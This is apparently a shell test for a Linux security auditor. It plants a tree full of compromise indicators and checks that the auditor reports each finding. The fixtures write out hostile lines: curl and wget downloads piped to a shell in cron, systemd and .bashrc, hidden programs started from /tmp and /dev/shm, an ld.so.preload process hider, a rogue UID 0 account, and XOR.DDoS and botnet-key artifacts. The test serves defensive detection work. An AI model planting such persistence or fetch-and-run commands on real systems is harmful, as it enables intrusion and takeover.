# audit: every finding id, each planted in a --root tree, reported with its severity, file and line.
. "$TEST_LIB"
. "$SRC_DIR/tests/fixture/audit_tree.sh"
set -e
T=$(mktemp -d)
trap 'rm -rf "$T"; cleanup_netns' EXIT
R=$T/root
make_clean_tree "$R"

# SSH: keyboard-interactive with PAM, root and empty-password logins on, a Match block turning password
# logins back on for one user, and a line sshd would refuse.
put "$R/etc/ssh/sshd_config.d/20-bad.conf" <<'CFG'
kbdinteractiveauthentication YES
PermitRootLogin=yes
PermitEmptyPasswords yes
Match User deploy
    PasswordAuthentication yes
Banner "unbalanced
CFG
# Accounts: a second UID 0, an empty password, root with a usable password.
echo 'toor:x:0:0::/root:/bin/bash' >>"$R/etc/passwd"
echo 'guest:x:1001:1001::/home/guest:/bin/sh' >>"$R/etc/passwd"
sed -i 's/^root:!:/root:$6$saltsalt$qwertyuiopasdfghjklzxcvbnm0123456789qwertyuiopasdfghjklzxcvbnm01234:/' "$R/etc/shadow"
echo 'guest::19700:0:99999:7:::' >>"$R/etc/shadow"
# Keys: root's file changed two days ago, holds a key nobody listed and the Outlaw botnet's key.
gen_key "$T/k1" "admin@old-laptop" >"$R/root/.ssh/authorized_keys"
gen_key "$T/k2" "mdrfckr" >>"$R/root/.ssh/authorized_keys"
touch -d '2 days ago' "$R/root/.ssh/authorized_keys"
mkdir -p "$R/etc/ctguard"
cut -d' ' -f1,2 "$R/home/alice/.ssh/authorized_keys" >"$R/etc/ctguard/known_keys"
# Cron: XOR.DDoS's restarter, a download-and-run entry in an unowned cron.d file, root's personal crontab
# starting a hidden program from /tmp.
echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >>"$R/etc/crontab"
printf '#!/bin/sh\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n' | put "$R/etc/cron.hourly/gcc.sh"
printf '# update\n* * * * * root curl -fsSL http://198.18.0.9/x.sh | sh\n' | put "$R/etc/cron.d/sysupdate"
printf 'MAILTO=""\n@reboot /tmp/.x/kworker >/dev/null 2>&1\n' | put "$R/var/spool/cron/crontabs/root"
# systemd units running from /dev/shm and fetching code; rc.local starting a hidden program; an init script
# no package installed; ld.so.preload; shell start-up files that download code or run it from /tmp.
printf '[Service]\nExecStart=/dev/shm/.k/run -c /dev/shm/.k/cfg\n' | put "$R/etc/systemd/system/dbus-helper.service"
printf '[Service]\nExecStartPre=/bin/sh -c "wget -qO- http://198.18.0.9/i | bash"\nExecStart=/bin/true\n' |
    put "$R/etc/systemd/system/netcheck.service"
printf '#!/bin/sh -e\nnohup /var/tmp/.cache/kthreadd &\nexit 0\n' | put "$R/etc/rc.local"
printf '#!/bin/sh\n/usr/bin/qwhxkzpmbf\n' | put "$R/etc/init.d/qwhxkzpmbf"
printf '/usr/lib/libprocesshider.so\n' | put "$R/etc/ld.so.preload"
printf '# .bashrc\ncurl -s http://198.18.0.9/a | bash\n' | put "$R/root/.bashrc"
printf '# .profile\n/tmp/.ICE-unix/.x/agent &\n' | put "$R/home/alice/.profile"
# XOR.DDoS drops: /lib/libudev.so, a random-named program in /boot, /lib/udev/udev.
cp /bin/true "$R/lib/libudev.so"
cp /bin/true "$R/boot/oygkkvkdyx"
cp /bin/true "$R/lib/udev/udev"
# System binaries: ps replaced, netstat not from any package.
echo 'a rootkit ps' >"$R/bin/ps"
sed -i '/netstat/d' "$R/var/lib/dpkg/info/net-tools.list"

# audit_json: runs the audit; $T/found then lists "ID SEVERITY FILE LINE" per finding (LINE None: the
# whole file or a built-in default).
audit_json() {
    expect_exit 0 "$CTGUARD" --root "$R" --json audit
    json "'\\n'.join('%s %s %s %s' % (f['id'], f['severity'], f['file'], f['line']) for f in j['findings'])" >"$T/found"
}
has() { grep -qFx "$*" "$T/found" || { cat "$T/found"; fail "no finding '$*'"; }; }
audit_json
has ssh.kbd_interactive high /etc/ssh/sshd_config.d/20-bad.conf 1
has ssh.root_login high /etc/ssh/sshd_config.d/20-bad.conf 2
has ssh.empty_passwords high /etc/ssh/sshd_config.d/20-bad.conf 3
has ssh.password_auth high /etc/ssh/sshd_config.d/20-bad.conf 5
has ssh.config_error medium /etc/ssh/sshd_config.d/20-bad.conf 6
has account.uid0 high /etc/passwd 5
has account.empty_password high /etc/shadow 5
has account.root_password high /etc/shadow 1
has keys.recent medium /root/.ssh/authorized_keys None
has keys.unknown high /root/.ssh/authorized_keys 1
has keys.malicious high /root/.ssh/authorized_keys 2
has xorddos.gcc_sh high /etc/crontab 5
has xorddos.gcc_sh high /etc/cron.hourly/gcc.sh None
has persist.cron.unowned low /etc/cron.d/sysupdate None
has persist.cron.download high /etc/cron.d/sysupdate 2
has persist.cron.user_crontab low /var/spool/cron/crontabs/root 2
has persist.cron.writable_exec high /var/spool/cron/crontabs/root 2
has persist.systemd.writable_exec high /etc/systemd/system/dbus-helper.service 2
has persist.systemd.download high /etc/systemd/system/netcheck.service 2
has persist.rc_local medium /etc/rc.local None
has persist.rc_local.writable_exec high /etc/rc.local 2
has persist.initd.unowned medium /etc/init.d/qwhxkzpmbf None
has persist.ld_preload high /etc/ld.so.preload 1
has persist.shell_rc.download high /root/.bashrc 2
has persist.shell_rc.writable_exec high /home/alice/.profile 2
has xorddos.libudev high /lib/libudev.so None
has xorddos.boot_file high /boot/oygkkvkdyx None
has xorddos.udev_file high /lib/udev/udev None
has binary.modified high /bin/ps None
has binary.unowned medium /bin/netstat None
# Nothing else: the clean parts of the tree stay quiet (alice's key is known, packaged files are owned).
assert_eq "$(wc -l <"$T/found")" 31 "finding count"
assert_eq "$(head -n1 "$T/found" | cut -d' ' -f2)" high "most severe first"

# The text report leads with the count and tells what to do.
expect_exit 0 "$CTGUARD" --root "$R" audit
expect_out "ctguard audit: 24 high, 5 medium, 2 low"
expect_out "fix: Run \`ctguard harden ssh\` to see the change"
expect_out "passwd -l root"

# With password logins off everywhere, root and empty-password logins are only latent (low), and the
# built-in default is reported against sshd_config itself.
rm "$R/etc/ssh/sshd_config.d/20-bad.conf"
printf 'PermitRootLogin yes\n' | put "$R/etc/ssh/sshd_config.d/20-root.conf"
audit_json
has ssh.root_login low /etc/ssh/sshd_config.d/20-root.conf 1
has account.root_password medium /etc/shadow 1
rm "$R/etc/ssh/sshd_config.d/10-site.conf"
audit_json
has ssh.password_auth high /etc/ssh/sshd_config None
assert_eq "$(json "[f['message'] for f in j['findings'] if f['id']=='ssh.password_auth'][0].split('.')[0]")" \
    "PasswordAuthentication is not set in any file, so sshd uses its built-in default (yes)" "default message"
